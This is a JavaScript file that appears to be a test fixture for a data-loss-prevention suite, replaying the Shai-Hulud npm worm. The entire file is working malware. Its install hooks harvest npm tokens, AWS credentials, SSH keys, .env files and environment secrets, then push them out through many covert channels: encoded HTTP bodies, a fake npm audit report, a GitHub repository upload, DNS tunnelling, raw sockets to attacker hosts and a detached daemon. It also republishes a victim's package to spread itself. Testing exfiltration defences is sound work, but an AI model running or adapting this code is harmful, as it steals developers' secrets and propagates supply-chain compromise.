// worm.js - the payload of a malicious npm package, replaying the 2025
// Shai-Hulud worm for t/e2e/500-shai-hulud.sh: its preinstall ("pre") and
// postinstall ("post") collect ~/.npmrc, ~/.aws/credentials,
// ~/.ssh/id_ed25519, the project's .env and the environment, and try every
// way out at once. Never fails the install (a worm stays quiet).
// Each attempt appends "CHANNEL sent|blocked DETAIL" to $DLP_T_WORM_OUT/results
// (the test's view; a real worm keeps no such diary) and the loot it staged
// to $DLP_T_WORM_OUT/loot-npm.json.
// Destinations (names mapped by the test's DNS): objects.githubusercontent.com
// (an allowed host: the drop), api.github.com (the worm's repository upload),
// exfil.attacker.test and 10.99.0.3:4444 (allowed by no policy), DNS names
// under attacker.test.
'use strict';
const fs = require('fs'), os = require('os'), path = require('path');
const https = require('https'), http = require('http'), zlib = require('zlib');
const dns = require('dns'), net = require('net'), cp = require('child_process');

const OUT = process.env.DLP_T_WORM_OUT || os.tmpdir();
const DROP = 'objects.githubusercontent.com', API = 'api.github.com';
const EVIL = 'exfil.attacker.test', EVILIP = '10.99.0.3', RAWPORT = 4444;
const phase = process.argv[2] || 'all';

function rd(p) { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return ''; } }
const H = os.homedir();
const proj = process.env.INIT_CWD || process.cwd();
const loot = { npmrc: rd(H + '/.npmrc'), aws: rd(H + '/.aws/credentials'),
	ssh: rd(H + '/.ssh/id_ed25519'), dotenv: rd(proj + '/.env'), env: process.env };
const J = JSON.stringify(loot);
// the compact form for the narrow channels: values that look like secrets
const S = [loot.npmrc, loot.aws, loot.ssh, loot.dotenv].concat(
	Object.values(process.env).filter(v => v.length >= 16 && !/[\/ :]/.test(v))).join('\n');
const b64 = s => Buffer.from(s).toString('base64');
const hex = s => Buffer.from(s).toString('hex');
const stage = path.join(os.tmpdir(), '.shl-' + process.pid + '.json');
fs.writeFileSync(stage, J);
fs.writeFileSync(path.join(OUT, 'loot-npm.json'), J);

function note(chan, ok, detail) {
	fs.appendFileSync(path.join(OUT, 'results'), chan + ' ' + (ok ? 'sent' : 'blocked') + ' ' +
		String(detail).replace(/\s+/g, ' ').slice(0, 100) + '\n');
}

const agent = new https.Agent({ keepAlive: true, maxSockets: 4 });
function req(chan, method, host, p, body, headers, port) {
	return new Promise(done => {
		const mod = port === 80 ? http : https;
		const r = mod.request({ host, port: port || (mod === http ? 80 : 443), path: p, method,
			agent: mod === https ? agent : undefined, timeout: 10000,
			headers: Object.assign({ 'User-Agent': chan }, headers || {}) }, rs => {
			let d = '';
			rs.on('data', c => { d += c; });
			rs.on('end', () => done({ ok: rs.statusCode < 300, status: rs.statusCode, body: d }));
			rs.on('error', e => done({ ok: false, status: e.code }));
		});
		r.on('error', e => done({ ok: false, status: e.code || e.message }));
		r.on('timeout', () => r.destroy(new Error('timeout')));
		if (body) r.write(body);
		r.end();
	});
}
async function one(chan, ...a) { const r = await req(chan, ...a); note(chan, r.ok, r.status); return r; }

async function split(chan) {
	let sent = 0, n = 0;
	for (let i = 0; i * 24 < S.length; i++, n++) {
		const r = await req(chan, 'GET', DROP, '/' + chan + '/' + i + '/' +
			encodeURIComponent(S.slice(i * 24, i * 24 + 24)));
		if (r.ok) sent++;
	}
	note(chan, sent === n, sent + '/' + n + ' requests');
}

async function github() {
	// the worm's flow: a public repository under the victim's token, the loot in it
	const tok = process.env.GITHUB_TOKEN || process.env.GH_TOKEN || '';
	const auth = { Authorization: 'token ' + tok, 'Content-Type': 'application/json' };
	const c = await one('npm-github-create', 'POST', API, '/user/repos',
		JSON.stringify({ name: 'Shai-Hulud', description: 'Shai-Hulud Migration' }), auth);
	let owner = 'victim';
	try { owner = JSON.parse(c.body).owner.login; } catch (e) { /* keep the guess */ }
	await one('npm-github-upload', 'PUT', API, '/repos/' + owner + '/Shai-Hulud/contents/data.json',
		JSON.stringify({ message: 'Shai-Hulud', content: b64(b64(J)) }), auth);
}

function child(chan, cmd, args, env) {
	return new Promise(done => {
		cp.execFile(cmd, args, { timeout: 15000, env: Object.assign({}, process.env, env || {}) },
			(err, stdout) => {
				const o = String(stdout).trim();
				note(chan, !err && /^(200|sent)/.test(o), err ? (err.code || 'error') + ' ' + o : o);
				done();
			});
	});
}

function labels(chan, how) {
	const h = hex(S), q = [];
	for (let i = 0; i * 60 < h.length; i++) q.push(i + '-' + h.slice(i * 60, i * 60 + 60) + '.' + chan + '.attacker.test');
	return (async () => {
		let ok = 0;
		for (const name of q) {
			const r = await new Promise(d => how === 'lookup' ? dns.lookup(name, 4, e => d(!e))
				: dns.resolve4(name, e => d(!e)));
			if (r) ok++;
		}
		note(chan, ok > 0, ok + '/' + q.length + ' answered');
	})();
}

function raw(chan, host) {
	return new Promise(done => {
		let fin = false;
		const end = (ok, d) => { if (!fin) { fin = true; note(chan, ok, d); done(); } };
		const s = net.connect({ host, port: RAWPORT, family: 4 }, () => {
			s.end(chan + '\n' + J, () => end(true, 'written'));
		});
		s.setTimeout(10000, () => { s.destroy(); end(false, 'timeout'); });
		s.on('error', e => end(false, e.code));
	});
}

const NODE_E = "const h=require('https');const r=h.request({host:'" + DROP + "',path:'/npm-node-e'," +
	"method:'POST'},s=>{console.log(s.statusCode);s.resume()});r.on('error',e=>console.log(e.code));" +
	"r.end(process.env.L)";
const BUN_E = "try{const r=await fetch('https://" + DROP + "/npm-bun',{method:'POST',body:process.env.L});" +
	"console.log(r.status)}catch(e){console.log('error '+e.code)}";
const SENDFILE = "import os,socket,sys\nf=os.path.expanduser('~/.aws/credentials')\n" +
	"s=socket.create_connection(('" + DROP + "',80),timeout=10)\n" +
	"s.sendall(b'POST /npm-sendfile HTTP/1.1\\r\\nHost: " + DROP + "\\r\\nContent-Length: %d\\r\\n\\r\\n' % os.path.getsize(f))\n" +
	"try:\n os.sendfile(s.fileno(),os.open(f,os.O_RDONLY),0,os.path.getsize(f));r=s.recv(100)\n" +
	" print(r.split()[1].decode() if r else 'reset')\nexcept OSError as e: print('error',e.errno)\n";

// DLP_T_WORM_ONLY=CHANNEL: that channel alone (the test's one-channel-per-session runs)
const ONLY = process.env.DLP_T_WORM_ONLY;
const run = jobs => Promise.all(jobs.filter(([c]) => !ONLY || c === ONLY).map(([, f]) => f()));

// a process that outlives the install: detached, it waits 1.5 s, then posts
const DAEMON = "setTimeout(()=>{const h=require('https'),fs=require('fs');" +
	"const note=m=>fs.appendFileSync(process.env.R,'npm-daemon '+m+'\\n');" +
	"const r=h.request({host:'" + DROP + "',path:'/npm-daemon',method:'POST'},s=>{note((s.statusCode==200?" +
	"'sent ':'blocked ')+s.statusCode);s.resume()});r.on('error',e=>note('blocked '+e.code));" +
	"r.end(process.env.L)},1500)";
function daemon() {
	const c = cp.spawn(process.execPath, ['-e', DAEMON], { detached: true, stdio: 'ignore',
		env: Object.assign({}, process.env, { L: b64(J), R: path.join(OUT, 'results') }) });
	c.unref();
}

function pre() {
	return run([
		['npm-post-b64', () => one('npm-post-b64', 'POST', DROP, '/npm-post-b64', b64(J))],
		['npm-post-b64x3', () => one('npm-post-b64x3', 'POST', DROP, '/npm-post-b64x3', b64(b64(b64(J))))],
		['npm-post-gzip', () => one('npm-post-gzip', 'POST', DROP, '/npm-post-gzip', zlib.gzipSync(J),
			{ 'Content-Encoding': 'gzip' })],
		['npm-header', () => one('npm-header', 'GET', DROP, '/npm-header', null, { 'X-Debug-Data': b64(J) })],
		['npm-query', () => one('npm-query', 'GET', DROP, '/npm-query?d=' + encodeURIComponent(b64(J)))],
		['npm-path', () => one('npm-path', 'GET', DROP, '/npm-path/' + Buffer.from(J).toString('base64url'))],
		['npm-split', () => split('npm-split')],
		// hide in the registry's own traffic: an "audit" report to registry.npmjs.org
		// (allowed, and the npm token's home), gzip'd as npm audit sends it
		['npm-registry-audit', async () => {   // any answer means the bytes arrived
			const r = await req('npm-registry-audit', 'POST', 'registry.npmjs.org',
				'/-/npm/v1/security/audits/quick', zlib.gzipSync(J), { 'Content-Encoding': 'gzip',
					'Content-Type': 'application/json',
					Authorization: 'Bearer ' + ((loot.npmrc.match(/_authToken=(\S+)/) || [])[1] || '') });
			note('npm-registry-audit', typeof r.status === 'number', r.status);
		}],
		// propagation, as the worm spread: republish a package of the victim's with
		// this payload as its postinstall, with the victim's npm token (at its home)
		['npm-publish', () => {
			const tok = (loot.npmrc.match(/_authToken=(\S+)/) || [])[1] || '';
			const self = b64(rd(__filename));
			return one('npm-publish', 'PUT', 'registry.npmjs.org', '/dlpt-victim-lib', JSON.stringify({
				name: 'dlpt-victim-lib', 'dist-tags': { latest: '1.0.1' },
				versions: { '1.0.1': { name: 'dlpt-victim-lib', version: '1.0.1',
					scripts: { postinstall: 'node bundle.js' } } },
				_attachments: { 'dlpt-victim-lib-1.0.1.tgz': { content_type: 'application/octet-stream',
					data: self, length: self.length } } }),
				{ Authorization: 'Bearer ' + tok, 'Content-Type': 'application/json' });
		}],
		['npm-fetch', async () => {   // node's own fetch (undici), not the https module
			try {
				const r = await fetch('https://' + DROP + '/npm-fetch', { method: 'POST', body: hex(J) });
				note('npm-fetch', r.ok, r.status);
			} catch (e) { note('npm-fetch', false, (e.cause && e.cause.code) || e.message); }
		}],
		['npm-github-upload', github],
		// the token is allowed at api.github.com: ride along in the repository's description
		['npm-github-desc', () => one('npm-github-desc', 'POST', API, '/user/repos',
			JSON.stringify({ name: 'Shai-Hulud-2', description: b64(S) }),
			{ Authorization: 'token ' + (process.env.GITHUB_TOKEN || ''), 'Content-Type': 'application/json' })],
	]);
}

function post() {
	const L = b64(J);
	const jobs = [
		['npm-curl', () => child('npm-curl', 'curl', ['-s', '-m', '10', '-o', '/dev/null', '-w', '%{http_code}',
			'--data-binary', '@' + stage, 'https://' + DROP + '/npm-curl'])],
		['npm-node-e', () => child('npm-node-e', process.execPath, ['-e', NODE_E], { L: hex(J) })],
		['npm-bun', () => child('npm-bun', 'bun', ['-e', BUN_E], { L })],
		['npm-busybox', () => child('npm-busybox', 'busybox', ['sh', '-c', 'busybox wget -q -O - --post-file "$0" ' +
			'http://' + DROP + '/npm-busybox >/dev/null && echo sent', stage])],
		['npm-sendfile', () => child('npm-sendfile', 'python3', ['-c', SENDFILE])],
		['npm-dns-lookup', () => labels('npm-dns-lookup', 'lookup')],
		['npm-dns-resolve', () => labels('npm-dns-resolve', 'resolve')],
		['npm-raw-name', () => raw('npm-raw-name', EVIL)],
		['npm-raw-ip', () => raw('npm-raw-ip', EVILIP)],
		['npm-daemon', daemon],
	];
	// the helper ships in the package (bin/helper); run alone, the test names it
	const h = process.env.DLP_T_WORM_HELPER || path.join(__dirname, 'bin', 'helper');
	if (fs.existsSync(h))
		jobs.push(['npm-static-go', () => child('npm-static-go', h, ['https://' + DROP + '/npm-static-go', stage])]);
	return run(jobs);
}

(async () => {
	try {
		if (phase !== 'post') await pre();
		if (phase !== 'pre') await post();
	} catch (e) {
		note('npm-worm', false, 'crashed ' + e.message);
	}
	try { fs.unlinkSync(stage); } catch (e) { /* gone */ }
	agent.destroy();
	process.exit(0);
})();
